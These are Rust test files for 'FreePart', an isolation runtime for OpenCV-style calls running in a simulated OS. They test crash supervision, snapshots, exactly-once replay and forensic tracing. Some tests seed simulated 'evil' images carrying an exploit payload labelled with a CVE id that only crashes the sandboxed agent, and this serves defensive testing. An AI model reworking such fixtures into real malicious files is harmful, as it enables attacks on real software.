    // degraded to fail-fast and the failure audited.
    assert!(rt.is_degraded(loading));
    assert!(rt
        .tracer()
        .audit_log()
        .iter()
        .any(|r| matches!(r, AuditRecord::SealFailed { partition, .. } if *partition == loading)));
    let err = rt
        .call("cv2.imread", &[Value::from("/ok.simg")])
        .unwrap_err();
    assert!(matches!(err, CallError::AgentUnavailable(p) if p == loading));
}

// ----------------------------------------------------------------------
// Supervision: restart budgets and warm spares.
// ----------------------------------------------------------------------

#[test]
fn budget_exhaustion_degrades_audits_and_fails_fast() {
    let mut rt = Runtime::install(
        standard_registry(),
        Policy {
            restart_budget: Some(tight_budget(2)),
            ..Policy::freepart()
        },
    );
    rt.enable_tracing();
    seed_image(&mut rt, "/ok.simg");
    seed_evil(&mut rt, "/evil.simg");
    let loading = rt.partition_of(rt.registry().id_of("cv2.imread").unwrap());
    // Each adversarial call crashes, restarts (one token), and crashes
    // the retry too; the third restart attempt finds the bucket empty.
    for _ in 0..2 {
        let _ = rt.call("cv2.imread", &[Value::from("/evil.simg")]);
    }
    assert!(rt.is_degraded(loading));
    assert_eq!(rt.degraded_partitions(), vec![loading]);
    assert_eq!(rt.stats().restarts, 2, "exactly `burst` respawns granted");
    assert!(rt
        .tracer()
        .audit_log()
        .iter()
        .any(|r| matches!(r, AuditRecord::RestartDenied { .. })));
    // Degraded = fail-fast, not a respawn loop — and no corpse leaks.
    let err = rt
        .call("cv2.imread", &[Value::from("/ok.simg")])
        .unwrap_err();
    assert!(matches!(err, CallError::AgentUnavailable(p) if p == loading));
    assert!(rt.kernel.metrics().reaps >= 3, "denied restart still reaps");
    // Other partitions never notice.
    rt.call("cv2.pollKey", &[]).unwrap();
}

#[test]
fn warm_spares_are_adopted_and_beat_cold_restarts() {
    let mut rt = Runtime::install(
        standard_registry(),
        Policy {
            warm_spares: 2,
            ..Policy::freepart()
        },
    );
    seed_image(&mut rt, "/ok.simg");
    rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
    let loading = rt.partition_of(rt.registry().id_of("cv2.imread").unwrap());
    assert_eq!(rt.spare_count(loading), 2, "pre-forked at install");

    let restart_cost = |rt: &mut Runtime| {
        let pid = rt.agent(loading).unwrap().pid;
        rt.kernel.deliver_fault(pid, FaultKind::Abort, None);
        let t0 = rt.kernel.now_ns();
        rt.restart_agent(loading);
        rt.kernel.now_ns() - t0
    };
    let warm = restart_cost(&mut rt);
    assert_eq!(rt.spare_count(loading), 1, "restart consumed a spare");
    let _ = restart_cost(&mut rt);
    assert_eq!(rt.spare_count(loading), 0);
    // Pool empty: the third restart pays the cold spawn path.
    let cold = restart_cost(&mut rt);
    assert!(
        warm < cold,
        "adopting a pre-forked spare ({warm} ns) must beat a cold spawn ({cold} ns)"
    );
    // Refilling is an explicit, off-critical-path choice.
    rt.refill_spares();
    assert_eq!(rt.spare_count(loading), 2);
    // And the partition serves correctly through all of it.
    rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
}

// ----------------------------------------------------------------------
// Incremental snapshots.
// ----------------------------------------------------------------------

#[test]
fn incremental_snapshots_skip_clean_objects_by_write_epoch() {
    let run = |incremental: bool| {
        let mut rt = Runtime::install(
            standard_registry(),
            Policy {
                snapshot_interval: 1,
                incremental_snapshots: incremental,
                ..Policy::freepart()
            },
        );
        seed_image(&mut rt, "/ok.simg");
        rt.kernel.fs.put("/c.xml", vec![7; 256]);
        // A stateful classifier homed in the loading agent...
        rt.call("cv2.CascadeClassifier.load", &[Value::from("/c.xml")])
            .unwrap();
        // ...then several more loading-partition calls, each triggering
        // a snapshot round over the (unchanged) classifier.
        for _ in 0..4 {
            rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
        }
        rt.kernel.metrics()
    };
    let full = run(false);
    let inc = run(true);
    assert_eq!(full.snapshot_objects_skipped, 0, "full mode never skips");
    assert!(
        inc.snapshot_objects_skipped >= 3,
        "clean rounds skip the copy (skipped {})",
        inc.snapshot_objects_skipped
    );
    assert!(
        inc.snapshot_bytes_copied < full.snapshot_bytes_copied,
        "incremental ({}) must copy fewer bytes than full ({})",
        inc.snapshot_bytes_copied,
        full.snapshot_bytes_copied
    );
    assert!(
        inc.snapshot_bytes_copied > 0,
        "the first round still copies"
    );
}

#[test]
fn restored_objects_work_after_an_incremental_snapshot_cycle() {
    // End-to-end: snapshot (incremental), crash, restore, use.
    let mut rt = Runtime::install(
        standard_registry(),
        Policy {
            snapshot_interval: 1,
            ..Policy::freepart()
        },
    );
    rt.kernel.camera = Some(Camera::new(9, CAMERA_FRAME_LEN));
    let cap = rt.call("cv2.VideoCapture", &[Value::I64(0)]).unwrap();
    rt.call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();
    seed_image(&mut rt, "/ok.simg");
    // Clean snapshot rounds over the capture...
    for _ in 0..3 {
        rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
    }
    let loading = rt.partition_of(rt.registry().id_of("cv2.VideoCapture.read").unwrap());
    let pid = rt.agent(loading).unwrap().pid;
    rt.kernel.deliver_fault(pid, FaultKind::Abort, None);
    // ...and the capture still reads after the crash: the reused bytes
    // restore exactly like freshly-copied ones.
    rt.call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();
    assert!(rt.stats().restarts >= 1);
}

// ----------------------------------------------------------------------
// Crash-storm property: for ANY pattern of response-window crashes, any
// batching window, and either transport, replay stays exactly-once
// against the device ground truth and the audit log accounts for every
// protected page.
// ----------------------------------------------------------------------

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]

    #[test]
    fn crash_storms_preserve_exactly_once_and_audit_accounting(
        crashes in proptest::collection::vec(any::<bool>(), 1..10),
        window in 0usize..3,
        shm in any::<bool>(),
    ) {
        let base = if shm { Policy::freepart_shm() } else { Policy::freepart() };
        let policy = Policy {
            batch_window: (window > 0).then_some(window * 4),
            ..base
        };
        let mut rt = Runtime::install(standard_registry(), policy);
        rt.enable_tracing();
        rt.kernel.camera = Some(Camera::new(11, CAMERA_FRAME_LEN));
        seed_image(&mut rt, "/ok.simg");
        let cap = rt.call("cv2.VideoCapture", &[Value::I64(0)]).unwrap();
        let loading = rt.partition_of(rt.registry().id_of("cv2.VideoCapture.read").unwrap());
        let mut successful_reads = 0u64;
        for (round, crash) in crashes.iter().enumerate() {
            // Mixed traffic so transitions, migrations, and (optionally)
            // segments and batches are all in play while agents die.
            let img = rt.call("cv2.imread", &[Value::from("/ok.simg")]).unwrap();
            rt.call("cv2.GaussianBlur", &[img]).unwrap();
            if *crash {
                // Kill the agent after execution, before the response —
                // the journal-replay window.
                rt.inject_crash_before_response(loading);
            }
            let got = rt.call("cv2.VideoCapture.read", std::slice::from_ref(&cap));
            prop_assert!(got.is_ok(), "round {round}: {got:?}");
            successful_reads += 1;
        }
        rt.drain_inflight();
        // Exactly-once: every Ok maps 1:1 onto a served device frame,
        // crashes and re-deliveries included.
        let served = rt.kernel.camera.as_ref().map_or(0, Camera::frames_served);
        prop_assert_eq!(served, successful_reads, "lost or double-consumed frames");
        // Audit completeness: every mprotect page transition the kernel
        // counted — transition storms, migration reapplies, restart
        // re-protections — is accounted for in the audit log.
        let audited: u64 = rt.tracer().audit_log().iter().map(AuditRecord::pages).sum();
        prop_assert_eq!(audited, rt.kernel.metrics().protected_pages);
        // And the crashes really happened (when any were requested).
        if crashes.iter().any(|c| *c) {
            prop_assert!(rt.stats().restarts > 0);
            prop_assert!(rt.kernel.metrics().reaps > 0);
        }
        prop_assert!(rt.kernel.is_running(rt.host_pid()));
    }
}
