//! Property tests of the runtime: for *any* benign pipeline, FreePart
//! must be functionally transparent (same results as no isolation) and
//! must never destabilize the system.

use freepart::{AdaptiveConfig, Policy, Runtime};
use freepart_frameworks::api::ApiKind;
use freepart_frameworks::exec::execute;
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{fileio, image::Image, ApiCtx, ObjectStore, Value};
use freepart_simos::Kernel;
use proptest::prelude::*;

/// Runs a random filter chain monolithically, returning final bytes.
fn run_monolithic(picks: &[u16], side: u32) -> Vec<u8> {
    let reg = standard_registry();
    let filters: Vec<_> = reg
        .iter()
        .filter(|s| matches!(s.kind, ApiKind::Filter(_)))
        .map(|s| s.id)
        .collect();
    let mut kernel = Kernel::new();
    let pid = kernel.spawn("mono");
    let mut objects = ObjectStore::new();
    kernel.fs.put(
        "/in.simg",
        fileio::encode_image(&Image::new(side, side, 3), None),
    );
    let imread = reg.id_of("cv2.imread").unwrap();
    let mut ctx = ApiCtx::new(&mut kernel, &mut objects, pid);
    let mut cur = execute(&reg, imread, &[Value::from("/in.simg")], &mut ctx).unwrap();
    for p in picks {
        let api = filters[*p as usize % filters.len()];
        cur = execute(&reg, api, &[cur], &mut ctx).unwrap();
    }
    let id = cur.as_obj().unwrap();
    ctx.objects.read_bytes(ctx.kernel, id).unwrap()
}

/// Runs the same chain under full FreePart isolation.
fn run_freepart(picks: &[u16], side: u32) -> (Vec<u8>, Runtime) {
    run_freepart_with(Policy::freepart(), picks, side)
}

/// Runs the same chain under FreePart with an explicit policy (used to
/// sweep the payload transports: eager, lazy, shm, mixed).
fn run_freepart_with(policy: Policy, picks: &[u16], side: u32) -> (Vec<u8>, Runtime) {
    let reg = standard_registry();
    let filters: Vec<_> = reg
        .iter()
        .filter(|s| matches!(s.kind, ApiKind::Filter(_)))
        .map(|s| s.id)
        .collect();
    let mut rt = Runtime::install(standard_registry(), policy);
    rt.kernel.fs.put(
        "/in.simg",
        fileio::encode_image(&Image::new(side, side, 3), None),
    );
    let mut cur = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    for p in picks {
        let api = filters[*p as usize % filters.len()];
        cur = rt.call_id(api, &[cur]).unwrap();
    }
    let bytes = rt.fetch_bytes(cur.as_obj().unwrap()).unwrap();
    (bytes, rt)
}

/// Runs the same chain through the asynchronous interface with
/// pipelining enabled (per-process virtual time, in-flight window).
fn run_freepart_async(picks: &[u16], side: u32) -> (Vec<u8>, Runtime) {
    let reg = standard_registry();
    let filters: Vec<_> = reg
        .iter()
        .filter(|s| matches!(s.kind, ApiKind::Filter(_)))
        .map(|s| s.id)
        .collect();
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    rt.kernel.fs.put(
        "/in.simg",
        fileio::encode_image(&Image::new(side, side, 3), None),
    );
    rt.enable_pipelining();
    let h = rt
        .call_async("cv2.imread", &[Value::from("/in.simg")])
        .unwrap();
    let mut cur = rt.promise(h).unwrap();
    for p in picks {
        let api = filters[*p as usize % filters.len()];
        let h = rt
            .call_async_id_on(freepart::ThreadId::MAIN, api, &[cur], &[])
            .unwrap();
        cur = rt.promise(h).unwrap();
    }
    rt.drain_inflight();
    let bytes = rt.fetch_bytes(cur.as_obj().unwrap()).unwrap();
    (bytes, rt)
}

/// Runs the same chain through the batched-submission plane: an
/// explicit batch window on top of `base`, handles threaded through
/// `promise` (which never retires, so batches accumulate), one drain at
/// the end.
fn run_freepart_batched(
    base: Policy,
    window: usize,
    picks: &[u16],
    side: u32,
) -> (Vec<u8>, Runtime) {
    let reg = standard_registry();
    let filters: Vec<_> = reg
        .iter()
        .filter(|s| matches!(s.kind, ApiKind::Filter(_)))
        .map(|s| s.id)
        .collect();
    let policy = Policy {
        batch_window: Some(window),
        ..base
    };
    let mut rt = Runtime::install(standard_registry(), policy);
    rt.kernel.fs.put(
        "/in.simg",
        fileio::encode_image(&Image::new(side, side, 3), None),
    );
    let h = rt
        .call_async("cv2.imread", &[Value::from("/in.simg")])
        .unwrap();
    let mut cur = rt.promise(h).unwrap();
    for p in picks {
        let api = filters[*p as usize % filters.len()];
        let h = rt
            .call_async_id_on(freepart::ThreadId::MAIN, api, &[cur], &[])
            .unwrap();
        cur = rt.promise(h).unwrap();
    }
    rt.drain_inflight();
    let bytes = rt.fetch_bytes(cur.as_obj().unwrap()).unwrap();
    (bytes, rt)
}

/// Runs the same chain under the closed-loop adaptive controller,
/// through the same asynchronous submission plane as the batched
/// runner (so controller-opened batch windows can actually fill).
fn run_freepart_adaptive(cfg: AdaptiveConfig, picks: &[u16], side: u32) -> (Vec<u8>, Runtime) {
    let reg = standard_registry();
    let filters: Vec<_> = reg
        .iter()
        .filter(|s| matches!(s.kind, ApiKind::Filter(_)))
        .map(|s| s.id)
        .collect();
    let policy = Policy {
        adaptive: Some(cfg),
        ..Policy::freepart()
    };
    let mut rt = Runtime::install(standard_registry(), policy);
    rt.kernel.fs.put(
        "/in.simg",
        fileio::encode_image(&Image::new(side, side, 3), None),
    );
    let h = rt
        .call_async("cv2.imread", &[Value::from("/in.simg")])
        .unwrap();
    let mut cur = rt.promise(h).unwrap();
    for p in picks {
        let api = filters[*p as usize % filters.len()];
        let h = rt
            .call_async_id_on(freepart::ThreadId::MAIN, api, &[cur], &[])
            .unwrap();
        cur = rt.promise(h).unwrap();
    }
    rt.drain_inflight();
    let bytes = rt.fetch_bytes(cur.as_obj().unwrap()).unwrap();
    (bytes, rt)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// Isolation transparency: any random filter chain produces byte-
    /// identical results under FreePart and under no isolation.
    #[test]
    fn freepart_is_functionally_transparent(
        picks in proptest::collection::vec(any::<u16>(), 1..8),
        side in 4u32..16,
    ) {
        let mono = run_monolithic(&picks, side);
        let (fp, rt) = run_freepart(&picks, side);
        prop_assert_eq!(mono, fp);
        // System-stability invariants, for any pipeline:
        prop_assert!(rt.kernel.is_running(rt.host_pid()));
        for p in rt.partitions() {
            prop_assert!(rt.kernel.is_running(rt.agent(p).unwrap().pid));
        }
        prop_assert!(rt.exploit_log.is_empty());
        prop_assert_eq!(rt.stats().restarts, 0);
        prop_assert_eq!(rt.kernel.metrics().filter_kills, 0, "no benign call killed");
    }

    /// Pipelining transparency: for any random filter chain, the
    /// asynchronous path produces byte-identical results to the
    /// synchronous path and to no isolation at all, and never
    /// destabilizes the system.
    #[test]
    fn async_pipelining_is_functionally_transparent(
        picks in proptest::collection::vec(any::<u16>(), 1..8),
        side in 4u32..16,
    ) {
        let mono = run_monolithic(&picks, side);
        let (sync_bytes, _) = run_freepart(&picks, side);
        let (async_bytes, rt) = run_freepart_async(&picks, side);
        prop_assert_eq!(&async_bytes, &sync_bytes);
        prop_assert_eq!(&async_bytes, &mono);
        prop_assert_eq!(rt.in_flight(), 0, "chain ends fully drained");
        prop_assert!(rt.kernel.is_running(rt.host_pid()));
        for p in rt.partitions() {
            prop_assert!(rt.kernel.is_running(rt.agent(p).unwrap().pid));
        }
        prop_assert!(rt.exploit_log.is_empty());
        prop_assert_eq!(rt.stats().restarts, 0);
        prop_assert_eq!(rt.kernel.metrics().filter_kills, 0, "no benign call killed");
    }

    /// Transport transparency: for any random filter chain, the choice
    /// of payload transport — eager through-host copies, lazy direct
    /// copies, shared-memory mapping for everything, or the mixed
    /// size-threshold policy — never changes a single output byte, and
    /// no mode destabilizes the system.
    #[test]
    fn transport_choice_is_functionally_transparent(
        picks in proptest::collection::vec(any::<u16>(), 1..8),
        side in 4u32..16,
    ) {
        let mono = run_monolithic(&picks, side);
        let (lazy, _) = run_freepart_with(Policy::freepart(), &picks, side);
        let (eager, _) = run_freepart_with(Policy::without_ldc(), &picks, side);
        let shm_everything = Policy {
            shm_threshold: Some(1),
            ..Policy::freepart()
        };
        let (shm, shm_rt) = run_freepart_with(shm_everything, &picks, side);
        let (mixed, _) = run_freepart_with(Policy::freepart_shm(), &picks, side);
        prop_assert_eq!(&lazy, &mono);
        prop_assert_eq!(&eager, &mono);
        prop_assert_eq!(&shm, &mono);
        prop_assert_eq!(&mixed, &mono);
        // The all-shm run really exercised the segment path…
        prop_assert!(shm_rt.stats().shm_grants > 0, "shm transport engaged");
        prop_assert!(shm_rt.stats().shm_mapped_bytes > 0);
        // …and stayed stable.
        prop_assert!(shm_rt.kernel.is_running(shm_rt.host_pid()));
        for p in shm_rt.partitions() {
            prop_assert!(shm_rt.kernel.is_running(shm_rt.agent(p).unwrap().pid));
        }
        prop_assert!(shm_rt.exploit_log.is_empty());
        prop_assert_eq!(shm_rt.stats().restarts, 0);
        prop_assert_eq!(shm_rt.kernel.metrics().filter_kills, 0, "no benign call killed");
    }

    /// Batching transparency: for any random filter chain, any batch
    /// window, and any payload transport (lazy LDC, eager through-host,
    /// shm size-threshold), coalescing frames never changes a single
    /// output byte, never inflates the frame count, and never
    /// destabilizes the system.
    #[test]
    fn batched_submission_is_functionally_transparent(
        picks in proptest::collection::vec(any::<u16>(), 1..8),
        side in 4u32..16,
        window in 1usize..10,
    ) {
        let mono = run_monolithic(&picks, side);
        for base in [Policy::freepart(), Policy::without_ldc(), Policy::freepart_shm()] {
            let (unbatched, urt) = run_freepart_with(base.clone(), &picks, side);
            let (batched, rt) = run_freepart_batched(base, window, &picks, side);
            prop_assert_eq!(&batched, &unbatched);
            prop_assert_eq!(&batched, &mono);
            prop_assert_eq!(rt.in_flight(), 0, "chain ends fully drained");
            let m = rt.kernel.metrics();
            prop_assert!(m.calls_batched > 0, "calls actually rode in batches");
            prop_assert!(
                m.ipc_messages <= urt.kernel.metrics().ipc_messages,
                "batching must never send more frames"
            );
            prop_assert!(rt.kernel.is_running(rt.host_pid()));
            for p in rt.partitions() {
                prop_assert!(rt.kernel.is_running(rt.agent(p).unwrap().pid));
            }
            prop_assert!(rt.exploit_log.is_empty());
            prop_assert_eq!(rt.stats().restarts, 0);
            prop_assert_eq!(m.filter_kills, 0, "no benign call killed");
        }
    }

    /// The LDC invariant: for any chain, lazy copies never exceed the
    /// number of hooked calls (at most one object move per call in a
    /// unary pipeline), and disabling LDC never changes results.
    #[test]
    fn ldc_bounds_and_equivalence(
        picks in proptest::collection::vec(any::<u16>(), 1..6),
    ) {
        let (with_ldc, rt) = run_freepart(&picks, 8);
        prop_assert!(rt.stats().ldc_copies <= rt.stats().rpc_calls);
        // Without LDC: identical output bytes.
        let reg = standard_registry();
        let filters: Vec<_> = reg
            .iter()
            .filter(|s| matches!(s.kind, ApiKind::Filter(_)))
            .map(|s| s.id)
            .collect();
        let mut rt2 = Runtime::install(standard_registry(), Policy::without_ldc());
        rt2.kernel.fs.put(
            "/in.simg",
            fileio::encode_image(&Image::new(8, 8, 3), None),
        );
        let mut cur = rt2.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
        for p in &picks {
            let api = filters[*p as usize % filters.len()];
            cur = rt2.call_id(api, &[cur]).unwrap();
        }
        let without = rt2.fetch_bytes(cur.as_obj().unwrap()).unwrap();
        prop_assert_eq!(with_ldc, without);
        // And eager mode always costs at least as much virtual time.
        prop_assert!(rt2.kernel.clock().now_ns() >= rt.kernel.clock().now_ns());
    }

    /// Adaptive transparency: for any random filter chain, any maximum
    /// batch window, and any promotion threshold, the closed-loop
    /// controller's knob choices never change a single output byte
    /// relative to a static-policy reference (and to no isolation at
    /// all), never destabilize the system, and always reach at least
    /// one decision point.
    #[test]
    fn adaptive_execution_is_functionally_transparent(
        picks in proptest::collection::vec(any::<u16>(), 1..8),
        side in 4u32..16,
        window in 1usize..10,
        threshold in 16u64..4096,
    ) {
        let mono = run_monolithic(&picks, side);
        let (static_ref, _) = run_freepart_batched(Policy::freepart(), window, &picks, side);
        let cfg = AdaptiveConfig {
            max_batch_window: window,
            shm_threshold: threshold,
            ..AdaptiveConfig::default()
        };
        let (adaptive, rt) = run_freepart_adaptive(cfg, &picks, side);
        prop_assert_eq!(&adaptive, &static_ref);
        prop_assert_eq!(&adaptive, &mono);
        prop_assert_eq!(rt.in_flight(), 0, "chain ends fully drained");
        prop_assert!(
            !rt.tracer().policy_decisions().is_empty(),
            "controller must reach a decision point"
        );
        prop_assert!(rt.kernel.is_running(rt.host_pid()));
        for p in rt.partitions() {
            prop_assert!(rt.kernel.is_running(rt.agent(p).unwrap().pid));
        }
        prop_assert!(rt.exploit_log.is_empty());
        prop_assert_eq!(rt.stats().restarts, 0);
        prop_assert_eq!(rt.kernel.metrics().filter_kills, 0, "no benign call killed");
    }

    /// Adaptive + supervision under crash storms: with the same crash
    /// schedule injected into a static supervised run and an adaptive
    /// supervised run, every per-round output, the hooked-call log, and
    /// the restart count are identical — controller estimator resets on
    /// restart never leak into semantics.
    #[test]
    fn adaptive_crash_recovery_matches_static_supervision(
        picks in proptest::collection::vec(any::<u16>(), 1..5),
        side in 4u32..12,
        crashes in proptest::collection::vec(any::<bool>(), 1..5),
    ) {
        let run = |policy: Policy| {
            let reg = standard_registry();
            let filters: Vec<_> = reg
                .iter()
                .filter(|s| matches!(s.kind, ApiKind::Filter(_)))
                .map(|s| s.id)
                .collect();
            let mut rt = Runtime::install(standard_registry(), policy);
            rt.kernel.fs.put(
                "/in.simg",
                fileio::encode_image(&Image::new(side, side, 3), None),
            );
            let loading = rt.partition_of(rt.registry().id_of("cv2.imread").unwrap());
            // Per-round outcome: the final bytes, or the contained
            // error (a crash may legitimately lose a round's payload —
            // the point is that *both* runs lose exactly the same ones).
            let mut outs: Vec<Result<Vec<u8>, String>> = Vec::new();
            for crash in &crashes {
                if *crash {
                    // Kill the agent after execution, before the
                    // response — the journal-replay window.
                    rt.inject_crash_before_response(loading);
                }
                let out = (|| {
                    let mut cur = rt
                        .call("cv2.imread", &[Value::from("/in.simg")])
                        .map_err(|e| e.to_string())?;
                    for p in &picks {
                        let api = filters[*p as usize % filters.len()];
                        cur = rt.call_id(api, &[cur]).map_err(|e| e.to_string())?;
                    }
                    rt.fetch_bytes(cur.as_obj().unwrap())
                        .map_err(|e| e.to_string())
                })();
                outs.push(out);
            }
            (outs, rt)
        };
        let (want, srt) = run(Policy::freepart_supervised());
        let (got, art) = run(Policy {
            adaptive: Some(AdaptiveConfig::default()),
            ..Policy::freepart_supervised()
        });
        prop_assert_eq!(&got, &want, "outputs diverged under crashes");
        prop_assert_eq!(art.call_log(), srt.call_log(), "call journal diverged");
        prop_assert_eq!(art.stats().restarts, srt.stats().restarts);
        if crashes.iter().any(|c| *c) {
            prop_assert!(art.stats().restarts > 0, "crashes really happened");
        }
        prop_assert!(art.kernel.is_running(art.host_pid()));
    }
}
