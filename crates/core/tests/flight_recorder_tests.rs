//! End-to-end tests of the kernel flight recorder through the full
//! runtime: a recorded pipeline replays digest-identical from the
//! commit log alone, the replay-time auditors come back clean on honest
//! runs, the tracer's transition windows join to real commit slices,
//! and a recorded crash yields a forensic provenance chain.

use freepart::{
    crash_forensics, journal_exactly_once, transition_windows, w_grant_discipline, AuditRecord,
    Policy, Runtime,
};
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{fileio, image::Image, ExploitAction, ExploitPayload, Value};
use freepart_simos::replay::{audit, replay};
use freepart_simos::FaultKind;

/// The OMR grader's per-sample call shape: walks the framework-state
/// machine through loading → processing → visualizing → storing.
fn omr_shaped_pipeline(rt: &mut Runtime) {
    rt.kernel.fs_put(
        "/in.simg",
        fileio::encode_image(&Image::new(16, 16, 3), None),
    );
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    let gray = rt.call("cv2.cvtColor", &[img]).unwrap();
    let smooth = rt.call("cv2.GaussianBlur", &[gray]).unwrap();
    let thresh = rt.call("cv2.threshold", &[smooth]).unwrap();
    rt.call("cv2.findContours", std::slice::from_ref(&thresh))
        .unwrap();
    rt.call("cv2.imshow", &[Value::from("omr"), thresh.clone()])
        .unwrap();
    rt.call("cv2.imwrite", &[Value::from("/out.simg"), thresh])
        .unwrap();
}

#[test]
fn recording_is_off_by_default_and_free() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    omr_shaped_pipeline(&mut rt);
    assert_eq!(rt.kernel.commit_len(), 0);
    assert!(rt.kernel.take_commit_log().is_none());
}

#[test]
fn recorded_pipeline_replays_digest_identical_and_audits_clean() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart_recorded());
    rt.enable_tracing();
    omr_shaped_pipeline(&mut rt);

    let final_digest = rt.kernel.state_digest();
    let log = rt.kernel.take_commit_log().expect("recording was on");
    assert!(!log.is_empty(), "a full pipeline must commit transitions");

    // Digest-identical replay from the log alone: every step matches,
    // and the rebuilt kernel lands on the live kernel's final digest.
    let (rebuilt, report) = replay(&log);
    assert!(report.is_clean(), "divergences: {:?}", report.divergences);
    assert_eq!(report.steps, log.len());
    assert_eq!(rebuilt.state_digest(), final_digest);

    // The kernel-level invariant auditor finds nothing to flag.
    assert_eq!(audit(&log), Vec::new());

    // Every state transition that moved the kernel (locked or unlocked
    // pages) joins to a non-empty commit slice; transitions with
    // nothing to sweep legitimately commit nothing and carry no window.
    let windows = transition_windows(rt.tracer());
    let with_pages = rt
        .tracer()
        .audit_log()
        .iter()
        .filter(|r| matches!(r, AuditRecord::StateTransition { pages, .. } if *pages > 0))
        .count();
    assert!(!windows.is_empty(), "pipeline must change state");
    assert!(
        windows.len() >= with_pages,
        "{with_pages} page-moving transitions but only {} windows",
        windows.len()
    );
    for w in &windows {
        assert!(w.commits.0 < w.commits.1, "empty window: {w:?}");
        assert!(w.commits.1 <= log.len(), "window past log tail: {w:?}");
    }

    // Runtime-level disciplines hold across the whole trace.
    assert_eq!(
        w_grant_discipline(&log, &windows, rt.host_pid()),
        Vec::<String>::new()
    );
    assert_eq!(journal_exactly_once(rt.tracer()), Vec::<String>::new());
    assert!(crash_forensics(&log).is_empty(), "no crashes in this run");
}

#[test]
fn a_recorded_crash_yields_a_forensic_chain_to_its_provenance() {
    let mut rt = Runtime::install(standard_registry(), Policy::freepart_recorded());
    rt.enable_tracing();
    let payload = ExploitPayload {
        cve: "CVE-2017-14136".into(),
        actions: vec![ExploitAction::CrashSelf],
    };
    rt.kernel.fs_put(
        "/evil.simg",
        fileio::encode_image(&Image::new(16, 16, 3), Some(&payload)),
    );
    let _ = rt.call("cv2.imread", &[Value::from("/evil.simg")]);

    let log = rt.kernel.take_commit_log().expect("recording was on");
    let (_, report) = replay(&log);
    assert!(
        report.is_clean(),
        "crash runs replay too: {:?}",
        report.divergences
    );

    let crashes = crash_forensics(&log);
    assert!(!crashes.is_empty(), "the exploit must register as a crash");
    let c = &crashes[0];
    assert_eq!(c.kind, FaultKind::Abort);
    // The chain walks back from the fault through the agent's history:
    // at minimum the fault itself plus the commits that fed it.
    assert!(c.chain.len() >= 2, "thin chain: {:?}", c.chain);
    assert_eq!(c.chain[0], c.commit_index);
    assert!(c.chain.windows(2).all(|p| p[0] > p[1]), "most recent first");
}
