//! Regression tests for the exactly-once replay path, post-restart
//! re-protection, and the deduplicated protected-object gauge.

use freepart::{Policy, Runtime};
use freepart_frameworks::exec::CAMERA_FRAME_LEN;
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{fileio, image::Image, Value};
use freepart_simos::device::Camera;
use freepart_simos::{FaultKind, SimError};

fn seed_image(rt: &mut Runtime, path: &str) {
    let img = Image::new(16, 16, 3);
    rt.kernel.fs.put(path, fileio::encode_image(&img, None));
}

#[test]
fn crash_in_response_window_replays_instead_of_reexecuting() {
    // The agent completes a call, then dies before the host sees the
    // response. The retry must re-send the *same* seq and be answered
    // from the completion journal — observable on the camera, whose
    // frame counter only moves when `read` actually executes.
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    rt.kernel.camera = Some(Camera::new(7, CAMERA_FRAME_LEN));
    let cap = rt.call("cv2.VideoCapture", &[Value::I64(0)]).unwrap();
    rt.call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();
    assert_eq!(rt.kernel.camera.as_ref().unwrap().frames_served(), 1);

    let read = rt.registry().id_of("cv2.VideoCapture.read").unwrap();
    let partition = rt.partition_of(read);
    rt.inject_crash_before_response(partition);
    let rpc_before = rt.stats().rpc_calls;
    let restarts_before = rt.stats().restarts;

    let retried = rt.call("cv2.VideoCapture.read", &[cap]);
    assert!(retried.is_ok(), "{retried:?}");
    // Exactly once: the camera advanced by one frame, not two.
    assert_eq!(rt.kernel.camera.as_ref().unwrap().frames_served(), 2);
    // The agent really did crash and come back.
    assert_eq!(rt.stats().restarts, restarts_before + 1);
    // One logical call, one entry in the call accounting.
    assert_eq!(rt.stats().rpc_calls, rpc_before + 1);
}

#[test]
fn completion_journal_survives_agent_restart() {
    // Same window, but restart explicitly between the crash and the
    // retry: the journal must live with the rebound channel, not the
    // dead process.
    let mut rt = Runtime::install(standard_registry(), Policy::freepart());
    rt.kernel.camera = Some(Camera::new(9, CAMERA_FRAME_LEN));
    let cap = rt.call("cv2.VideoCapture", &[Value::I64(0)]).unwrap();
    let read = rt.registry().id_of("cv2.VideoCapture.read").unwrap();
    let partition = rt.partition_of(read);
    rt.inject_crash_before_response(partition);
    assert!(rt
        .call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .is_ok());
    let served = rt.kernel.camera.as_ref().unwrap().frames_served();

    // A later, *new* call is not a replay — it executes normally.
    assert!(rt.call("cv2.VideoCapture.read", &[cap]).is_ok());
    assert_eq!(
        rt.kernel.camera.as_ref().unwrap().frames_served(),
        served + 1
    );
}

#[test]
fn restart_reapplies_protection_to_restored_snapshots() {
    // A protected stateful object restored from a snapshot lands in
    // fresh RW pages; restart must re-lock it, or the crash would quietly
    // lift temporal protection.
    let mut rt = Runtime::install(
        standard_registry(),
        Policy {
            snapshot_interval: 1,
            ..Policy::freepart()
        },
    );
    seed_image(&mut rt, "/in.simg");
    rt.kernel.fs.put("/c.xml", vec![5; 64]);
    let clf = rt
        .call("cv2.CascadeClassifier.load", &[Value::from("/c.xml")])
        .unwrap();
    let clf_id = clf.as_obj().unwrap();
    let img = rt.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    // Loading → Processing: the classifier locks read-only.
    rt.call("cv2.GaussianBlur", &[img]).unwrap();
    assert!(rt.is_protected(clf_id));
    let meta = rt.objects.meta(clf_id).unwrap();
